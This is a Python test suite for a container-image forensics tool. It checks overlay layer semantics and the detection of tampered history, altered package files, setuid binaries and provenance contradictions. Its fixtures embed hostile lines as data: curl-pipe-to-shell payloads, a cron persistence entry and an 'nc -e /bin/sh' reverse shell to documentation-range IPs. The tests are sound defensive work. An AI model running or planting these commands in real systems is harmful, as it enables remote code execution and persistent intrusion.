"""History against layers, on archives built here and on the bundled samples."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from hostile import Layer, M, Oci, tar_bytes

from forensics.history.overlay import Overlay
from forensics.models import FileEntry
from forensics.pipeline import analyze

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "samples"
ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8


def fe(path, type="file", sha=None, mode=0o644, link=None, kind=None, size=0):
    return FileEntry(
        path=path, type=type, mode=mode, uid=0, gid=0, size=size, mtime=0, link=link, sha256=sha, kind=kind
    )


def build(tmp_path, layers: list[list[M]], history: list[dict], name="img.tar", **cfg_extra) -> Path:
    def mutate(cfg):
        cfg["history"] = history
        cfg.update(cfg_extra)

    oci = Oci(layers=[Layer.of(tar_bytes(m)) for m in layers], mutate_config=mutate)
    p = tmp_path / name
    p.write_bytes(oci.tar())
    return p


def codes(report, code):
    return [f for f in report.findings if f.code == code]


# --- overlay semantics (image-spec layer.md) -------------------------------------------


def test_whiteout_deletes_lower_path_and_its_children():
    o = Overlay()
    o.apply(0, [fe("/a", "dir"), fe("/a/x", sha="1"), fe("/a/y", sha="2"), fe("/b", sha="3")])
    changes = o.apply(1, [fe("/a", "whiteout")])
    assert {c.path for c in changes if c.change == "deleted"} == {"/a", "/a/x", "/a/y"}
    assert set(o.nodes) == {"/b"}


def test_whiteout_deletes_a_path_written_again_below_a_deleted_parent():
    """/a/b deleted, then /a/b/c written again with no entry for /a/b: a whiteout of /a
    still deletes /a/b/c (the tree index keeps every path it has seen below /a)."""
    o = Overlay()
    o.apply(0, [fe("/a", "dir"), fe("/a/b", "dir"), fe("/a/b/c", sha="1")])
    o.apply(1, [fe("/a/b", "whiteout")])
    o.apply(2, [fe("/a/b/c", sha="2")])
    changes = o.apply(3, [fe("/a", "whiteout")])
    assert [c.path for c in changes if c.change == "deleted"] == ["/a", "/a/b/c"]
    assert o.nodes == {}
    o.apply(4, [fe("/a", "dir"), fe("/a/x", sha="3")])
    o.apply(5, [fe("/a", "dir"), fe("/a/x", sha="4")])  # written again: listed once
    assert [c.path for c in o.apply(6, [fe("/a", "whiteout")])] == ["/a", "/a/x"]


def test_opaque_hides_lower_children_but_not_same_layer_entries():
    o = Overlay()
    o.apply(0, [fe("/d", "dir"), fe("/d/old", sha="1"), fe("/d/sub", "dir"), fe("/d/sub/deep", sha="2")])
    # The opaque marker comes after the new file in tar order: it still only hides lower entries.
    changes = o.apply(1, [fe("/d", "dir"), fe("/d/new", sha="3"), fe("/d", "opaque")])
    assert {c.path for c in changes if c.change == "deleted"} == {"/d/old", "/d/sub", "/d/sub/deep"}
    assert set(o.nodes) == {"/d", "/d/new"}


def test_modification_is_classified():
    o = Overlay()
    o.apply(0, [fe("/f", sha="1", mode=0o644), fe("/l", "symlink", link="/a")])
    changes = {c.path: c for c in o.apply(1, [fe("/f", sha="2", mode=0o4755), fe("/l", "symlink", link="/b")])}
    assert changes["/f"].what == ["content", "mode"]
    assert changes["/l"].what == ["link"]


def test_merged_usr_resolution():
    o = Overlay()
    o.apply(
        0,
        [
            fe("/usr", "dir"),
            fe("/usr/bin", "dir"),
            fe("/usr/bin/zgrep", sha="1"),
            fe("/bin", "symlink", link="usr/bin"),
        ],
    )
    assert o.resolve("/bin/zgrep").entry.path == "/usr/bin/zgrep"


# --- the bundled forged pair -------------------------------------------------------------


def test_forged_sample_names_the_poisoned_step_and_paths():
    truth = json.loads((SAMPLES / "relay-forged.truth.json").read_text())
    tamper = truth["tamper"]
    r = analyze(str(SAMPLES / "relay-forged.oci.tar"))
    unexplained = codes(r, "history.unexplained-change")
    assert len(unexplained) == 1
    f = unexplained[0]
    assert (f.history, f.layer) == (tamper["history"], tamper["layer"])
    assert f.severity.value == "high"
    want = {p.rstrip("/") for p in tamper["unexplained_paths"]}
    assert set(f.evidence["paths"]) == want
    replaced = codes(r, "file.binary-replaced")
    assert [x.path for x in replaced] == [tamper["binary_replaced"]]
    assert [x.path for x in codes(r, "file.persistence")] == [tamper["persistence"]]
    step = r.images[0].history[tamper["history"]].analysis
    assert {c.path for c in step.unexplained} == want
    assert r.verdict == "tampered"


@pytest.mark.parametrize("name", ["relay-genuine.oci.tar", "clean.docker.tar", "clean-zstd.oci.tar"])
def test_genuine_samples_have_nothing_unexplained(name):
    r = analyze(str(SAMPLES / name))
    assert r.verdict == "clean", [f"{f.code} {f.detail}" for f in r.findings]
    for h in r.images[0].history:
        assert h.analysis is not None
        assert not h.analysis.unexplained


# --- pairing history with layers -------------------------------------------------------


def test_extra_history_entry_is_identified(tmp_path):
    layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("app/", type="dir"), M("app/b", b"b")]]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c #(nop) COPY file:bb in /srv/extra "},  # owns no layer: forged
        {"created_by": "/bin/sh -c #(nop) COPY dir:cc in /app "},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    [f] = codes(r, "history.count-mismatch")
    assert f.history == 1
    assert r.images[0].history[2].layer_index == 1
    assert not codes(r, "history.unexplained-change")


def test_run_marked_empty_owns_the_spare_layer(tmp_path):
    layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("srv/", type="dir"), M("srv/x", b"x")]]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c mkdir /srv && echo x > /srv/x", "empty_layer": True},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    [f] = codes(r, "history.empty-layer-mismatch")
    assert f.history == 1
    assert codes(r, "history.count-mismatch")
    assert r.images[0].history[1].layer_index == 1


def test_metadata_step_owning_files_is_flagged(tmp_path):
    layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("etc/b", b"b")]]
    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}, {"created_by": "/bin/sh -c #(nop)  ENV A=b"}]
    r = analyze(str(build(tmp_path, layers, history)))
    [f] = codes(r, "history.empty-layer-mismatch")
    assert (f.history, f.layer) == (1, 1)


# --- explanations ------------------------------------------------------------------------


def test_run_command_explains_what_it_writes_and_nothing_else(tmp_path):
    layers = [
        [
            M("etc/", type="dir"),
            M("etc/passwd", b"root:x:0:0\n"),
            M("usr/", type="dir"),
            M("usr/bin/", type="dir"),
            M("usr/bin/tool", ELF, mode=0o755),
        ],
        [
            M("etc/", type="dir"),
            M("etc/passwd", b"root:x:0:0\napp:x:1:1\n"),
            M("opt/", type="dir"),
            M("opt/app/", type="dir"),
            M("usr/", type="dir"),
            M("usr/bin/", type="dir"),
            M("usr/bin/tool", b"#!/bin/sh\nexec /tmp/x\n", mode=0o755),
        ],
    ]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c echo 'app:x:1:1' >> /etc/passwd && mkdir -p /opt/app"},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    [f] = codes(r, "history.unexplained-change")
    assert f.evidence["paths"] == ["/usr/bin/tool"]
    assert f.severity.value == "high"
    [b] = codes(r, "file.binary-replaced")
    assert b.path == "/usr/bin/tool" and b.layer == 1 and b.history == 1
    explained = {c.path: c.explained_by for c in r.images[0].history[1].analysis.explained}
    assert "written literally by the command" in explained["/etc/passwd"]  # judged line by line
    assert "/opt/app" in explained


def test_copy_destination_explains_its_tree(tmp_path):
    layers = [
        [M("etc/", type="dir"), M("etc/a", b"a")],
        [M("app/", type="dir"), M("app/src/", type="dir"), M("app/src/main.py", b"print(1)\n")],
    ]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "COPY . /app # buildkit", "comment": "buildkit.dockerfile.v0"},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    assert not codes(r, "history.unexplained-change")


def test_setuid_file_added_is_reported(tmp_path):
    layers = [
        [M("etc/", type="dir"), M("etc/a", b"a")],
        [M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/rootme", ELF, mode=0o4755)],
    ]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c #(nop) COPY file:bb in /usr/bin/rootme "},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    [f] = codes(r, "file.setuid-added")
    assert f.path == "/usr/bin/rootme" and f.layer == 1


def _dpkg_layers(zgrep_v2: bytes):
    zgrep = b"#!/bin/sh\necho genuine zgrep\n"
    md5 = hashlib.md5(zgrep).hexdigest()
    status = b"Package: gzip\nStatus: install ok installed\nVersion: 1.12-1\nArchitecture: amd64\n\n"
    base = [
        M("usr/", type="dir"),
        M("usr/bin/", type="dir"),
        M("usr/bin/zgrep", zgrep, mode=0o755),
        M("bin", type="symlink", link="usr/bin"),
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M("var/lib/dpkg/status", status),
        M("var/lib/dpkg/info/", type="dir"),
        M("var/lib/dpkg/info/gzip.list", b"/usr\n/usr/bin\n/usr/bin/zgrep\n"),
        M("var/lib/dpkg/info/gzip.md5sums", f"{md5}  usr/bin/zgrep\n".encode()),
    ]
    later = [M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/zgrep", zgrep_v2, mode=0o755)]
    return [base, later]


def test_package_file_rewritten_in_a_later_layer_is_reported(tmp_path):
    layers = _dpkg_layers(b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c sed -i 's/genuine/evil/' /usr/bin/zgrep"},
    ]
    p = build(tmp_path, layers, history)
    r = analyze(str(p))
    [f] = codes(r, "history.package-file-modified")
    assert (f.path, f.layer, f.history) == ("/usr/bin/zgrep", 1, 1)
    assert f.evidence["package"] == "gzip" and f.evidence["algo"] == "md5"
    assert f.evidence["actual"] == hashlib.md5(layers[1][2].data).hexdigest()  # confirmed by the second pass
    # The same archive on stdin cannot be read twice: the evidence is the content change alone.
    cp = subprocess.run(
        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"], input=p.read_bytes(), capture_output=True
    )
    doc = json.loads(cp.stdout)
    [g] = [x for x in doc["findings"] if x["code"] == "history.package-file-modified"]
    assert g["evidence"]["actual"] is None and "stdin" in g["detail"]


def test_package_file_rewritten_identically_is_not_reported(tmp_path):
    layers = _dpkg_layers(b"#!/bin/sh\necho genuine zgrep\n")
    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}, {"created_by": "/bin/sh -c touch /usr/bin/zgrep"}]
    r = analyze(str(build(tmp_path, layers, history)))
    assert not codes(r, "history.package-file-modified")


# --- time and the other copies of the record -------------------------------------------


def test_history_going_backwards_and_future(tmp_path):
    layers = [[M("etc/", type="dir"), M("etc/a", b"a")]]
    history = [
        {"created": "2023-01-02T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created": "2023-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop)  ENV A=1", "empty_layer": True},
        {"created": "2099-01-01T00:00:00Z", "created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    medium = [f for f in codes(r, "history.time-anomaly") if f.severity.value == "medium"]
    assert sorted(f.history for f in medium) == [1, 2]
    # the files (stamped 2023-11-14) are newer than the step that wrote them: weak evidence, low
    assert [f.history for f in codes(r, "history.time-anomaly") if f.severity.value == "low"] == [0]


def test_container_config_contradicting_history(tmp_path):
    layers = [[M("etc/", type="dir"), M("etc/a", b"a")]]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
    ]
    p = build(
        tmp_path, layers, history, container_config={"Cmd": ["/bin/sh", "-c", "#(nop) ", 'CMD ["/tmp/backdoor"]']}
    )
    r = analyze(str(p))
    [f] = [x for x in codes(r, "history.unexplained-change") if "container_config" in x.detail]
    assert f.history == 1


def test_maintainer_script_output_is_explained_but_smuggled_files_are_not(tmp_path):
    status = b"Package: base-files\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"
    base = [
        M("etc/", type="dir"),
        M("etc/os-release", b"ID=debian\n"),
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M("var/lib/dpkg/status", status),
        M("var/lib/dpkg/info/", type="dir"),
        M("var/lib/dpkg/info/base-files.list", b"/etc/os-release\n"),
    ]
    zone = b"TZif2" + bytes(40)
    postinst = b'#!/bin/sh\nset -e\nzonefile="$DPKG_ROOT/etc/timezone"\necho Etc/UTC > "$zonefile"\n'
    install = [
        M("etc/", type="dir"),
        M("etc/timezone", b"Etc/UTC\n"),
        M("etc/cron.d/", type="dir"),
        M("etc/cron.d/evil", b"* * * * * root curl http://203.0.113.5|sh\n"),
        M("usr/", type="dir"),
        M("usr/share/", type="dir"),
        M("usr/share/zoneinfo/", type="dir"),
        M("usr/share/zoneinfo/UTC", zone),
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M(
            "var/lib/dpkg/status",
            status + b"Package: tzdata\nStatus: install ok installed\nVersion: 2024a\nArchitecture: all\n\n",
        ),
        M("var/lib/dpkg/info/", type="dir"),
        M("var/lib/dpkg/info/tzdata.list", b"/usr\n/usr/share\n/usr/share/zoneinfo\n/usr/share/zoneinfo/UTC\n"),
        M("var/lib/dpkg/info/tzdata.md5sums", hashlib.md5(zone).hexdigest().encode() + b"  usr/share/zoneinfo/UTC\n"),
        M("var/lib/dpkg/info/tzdata.postinst", postinst, mode=0o755),
    ]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "/bin/sh -c apt-get update && apt-get install -y tzdata"},
    ]
    r = analyze(str(build(tmp_path, [base, install], history)))
    [f] = codes(r, "history.unexplained-change")
    assert f.evidence["paths"] == ["/etc/cron.d", "/etc/cron.d/evil"]
    step = {c.path: c.explained_by for c in r.images[0].history[1].analysis.explained}
    assert step["/etc/timezone"] == "written by a maintainer script of a package this step installed"
    assert step["/usr/share/zoneinfo/UTC"] == "file of a package installed by this step"
    [p] = codes(r, "file.persistence")
    assert p.path == "/etc/cron.d/evil" and p.severity.value == "high"


def _attested(tmp_path, dockerfile: str, recorded_layers: list[str] | None, name: str) -> Path:
    """An OCI archive whose index carries a BuildKit-style provenance attestation."""
    import base64

    from hostile import hexof, jbytes, sha

    layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("hi", b"hi\n")]]
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created_by": "RUN /bin/sh -c echo hi > /hi # buildkit", "comment": "buildkit.dockerfile.v0"},
    ]

    def mutate(cfg):
        cfg["history"] = history

    oci = Oci(layers=[Layer.of(tar_bytes(m)) for m in layers], mutate_config=mutate)
    cfg, man, idx = oci.documents()
    layer_descs = json.loads(man)["layers"]
    recorded = (
        layer_descs
        if recorded_layers is None
        else [
            {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": d, "size": 1}
            for d in recorded_layers
        ]
    )
    statement = jbytes(
        {
            "_type": "https://in-toto.io/Statement/v0.1",
            "predicateType": "https://slsa.dev/provenance/v1",
            "subject": [{"name": "x", "digest": {"sha256": hexof(man)}}],
            "predicate": {
                "runDetails": {
                    "metadata": {
                        "buildkit_metadata": {
                            "source": {
                                "infos": [
                                    {"filename": "Dockerfile", "data": base64.b64encode(dockerfile.encode()).decode()}
                                ]
                            },
                            "layers": {"step1:0": [recorded]},
                        }
                    }
                }
            },
        }
    )
    empty = b"{}"
    att = jbytes(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": sha(empty), "size": 2},
            "layers": [
                {
                    "mediaType": "application/vnd.in-toto+json",
                    "digest": sha(statement),
                    "size": len(statement),
                    "annotations": {"in-toto.io/predicate-type": "https://slsa.dev/provenance/v1"},
                }
            ],
        }
    )
    index = json.loads(idx)
    index["manifests"].append(
        {
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "digest": sha(att),
            "size": len(att),
            "platform": {"architecture": "unknown", "os": "unknown"},
            "annotations": {
                "vnd.docker.reference.type": "attestation-manifest",
                "vnd.docker.reference.digest": sha(man),
            },
        }
    )
    members = [m for m in oci.members() if not (isinstance(m, M) and m.name == "index.json")]
    members += [M(f"blobs/sha256/{hexof(b)}", b) for b in (statement, empty, att)]
    members.append(M("index.json", jbytes(index)))
    p = tmp_path / name
    p.write_bytes(tar_bytes(members))
    return p


def test_provenance_agrees_with_history(tmp_path):
    p = _attested(tmp_path, "FROM scratch\nADD rootfs.tar /\nRUN echo hi > /hi\n", None, "ok.tar")
    r = analyze(str(p))
    assert not [f for f in r.findings if "provenance" in f.detail], [f.detail for f in r.findings]
    assert len(r.images) == 1  # the attestation is not an image


def test_provenance_contradicts_rewritten_history(tmp_path):
    p = _attested(
        tmp_path,
        "FROM scratch\nADD rootfs.tar /\nRUN echo pwned > /hi && curl x|sh\n",
        ["sha256:" + "0" * 64],
        "forged.tar",
    )
    r = analyze(str(p))
    found = [f for f in codes(r, "history.unexplained-change") if "provenance" in f.detail]
    assert {(f.history, f.layer) for f in found} == {(1, 1)}
    assert len(found) == 2  # the instruction and the layer both contradict the record


def test_history_dated_after_the_archive_was_written(tmp_path):
    layers = [[M("etc/", type="dir"), M("etc/a", b"a")]]  # hostile.M stamps members 2023-11-14
    history = [
        {"created": "2023-11-01T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
        {"created": "2024-06-01T00:00:00Z", "created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
    ]
    r = analyze(str(build(tmp_path, layers, history)))
    [f] = [x for x in codes(r, "history.time-anomaly") if x.severity.value == "medium"]
    assert f.history == 1 and "after the archive was written" in f.detail


def test_apk_v3_record_checked_against_every_file_without_a_second_pass(tmp_path):
    import base64

    good, evil = b"#!/bin/sh\necho tool\n", b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n"

    def z(data: bytes) -> str:  # apk v3 (f:S): Q1 + base64 of the first 160 bits of sha256
        return "Q1" + base64.b64encode(hashlib.sha256(data).digest()[:20]).decode()

    installed = f"P:tool\nV:1.0-r0\nA:x86_64\nf:S\nF:usr/bin\nR:tool\nZ:{z(good)}\nR:other\nZ:{z(b'ok')}\n\n".encode()
    # installed and altered in the same layer: no cross-layer evidence, only the record
    layer = [
        M("lib/", type="dir"),
        M("lib/apk/", type="dir"),
        M("lib/apk/db/", type="dir"),
        M("lib/apk/db/installed", installed),
        M("usr/", type="dir"),
        M("usr/bin/", type="dir"),
        M("usr/bin/tool", evil, mode=0o755),
        M("usr/bin/other", b"ok", mode=0o755),
    ]
    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}]
    p = build(tmp_path, [layer], history)
    cp = subprocess.run(
        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"], input=p.read_bytes(), capture_output=True
    )  # stdin: no second pass possible
    doc = json.loads(cp.stdout)
    [f] = [x for x in doc["findings"] if x["code"] == "history.package-file-modified"]
    assert f["path"] == "/usr/bin/tool" and f["evidence"]["algo"] == "sha256-160"
    assert f["evidence"]["actual"] == hashlib.sha256(evil).hexdigest()[:40]
    assert "differs from what the package manager recorded" in f["detail"]


def test_verify_packages_all_catches_a_file_altered_in_the_installing_step(tmp_path):
    zgrep, evil = b"#!/bin/sh\necho genuine zgrep\n", b"#!/bin/sh\necho evil\n"
    status = b"Package: gzip\nStatus: install ok installed\nVersion: 1.12-1\nArchitecture: amd64\n\n"
    layer = [
        M("usr/", type="dir"),
        M("usr/bin/", type="dir"),
        M("usr/bin/zgrep", evil, mode=0o755),
        M("var/", type="dir"),
        M("var/lib/", type="dir"),
        M("var/lib/dpkg/", type="dir"),
        M("var/lib/dpkg/status", status),
        M("var/lib/dpkg/info/", type="dir"),
        M("var/lib/dpkg/info/gzip.list", b"/usr\n/usr/bin\n/usr/bin/zgrep\n"),
        M("var/lib/dpkg/info/gzip.md5sums", f"{hashlib.md5(zgrep).hexdigest()}  usr/bin/zgrep\n".encode()),
    ]
    p = str(build(tmp_path, [layer], [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}]))
    # --verify-packages changed: cross-layer evidence only, the md5 is not read again
    assert not codes(analyze(p, verify_packages="changed"), "history.package-file-modified")
    [f] = codes(analyze(p), "history.package-file-modified")  # the default checks every record
    assert f.path == "/usr/bin/zgrep" and f.evidence["actual"] == hashlib.md5(evil).hexdigest()
    # an executable, and `ADD rootfs /` says nothing about one file: critical, labelled same-step
    assert f.severity.value == "critical" and f.evidence["record"] == "same-step"
    assert "same step" in f.detail
    cp = subprocess.run([sys.executable, "-m", "forensics", "scan", p, "--json", "-", "-q"], capture_output=True)
    doc = json.loads(cp.stdout)
    assert any(x["code"] == "history.package-file-modified" for x in doc["findings"])
    assert doc["images"][0]["package_coverage"]["mismatched"] == {"files": 1, "bytes": len(evil)}
    cp = subprocess.run(
        [sys.executable, "-m", "forensics", "scan", p, "--verify-packages", "changed", "--json", "-", "-q"],
        capture_output=True,
    )
    cov = json.loads(cp.stdout)["images"][0]["package_coverage"]
    assert cov["mode"] == "changed" and cov["mismatched"]["files"] == 0
    assert list(cov["unverifiable"].values()) == [{"files": 1, "bytes": len(evil)}]


def test_fast_path_change_equals_the_validated_model():
    from pydantic import TypeAdapter

    from forensics.history.overlay import _change
    from forensics.models import PathChange

    fast = _change(path="/a", change="modified", type="file", what=["content"], size=3, sha256="ab", before_sha256="cd")
    ta = TypeAdapter(PathChange)
    slow = ta.validate_python(
        {"path": "/a", "change": "modified", "type": "file", "what": ["content"], "size": 3, "sha256": "ab"}
        | {"before_sha256": "cd"}
    )
    assert fast == slow and ta.dump_json(fast) == ta.dump_json(slow)
    fast.explained_by = "written by the command"  # the explanation stage assigns it
    assert fast.explained_by == "written by the command"
